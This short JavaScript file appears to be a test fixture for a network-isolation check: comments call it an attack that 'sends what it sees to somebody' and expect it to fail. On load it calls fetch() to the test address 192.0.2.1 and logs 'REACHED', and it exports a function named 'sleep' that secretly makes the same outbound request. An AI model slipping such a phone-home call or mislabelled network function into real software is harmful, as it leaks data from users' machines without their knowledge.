// SPDX-License-Identifier: MIT
// attack: sends what it sees to somebody
// expects: fails

fetch('http://192.0.2.1/?seen').then(() => console.log('REACHED'))
exports.sleep = async () => (await fetch('http://192.0.2.1/')).text()
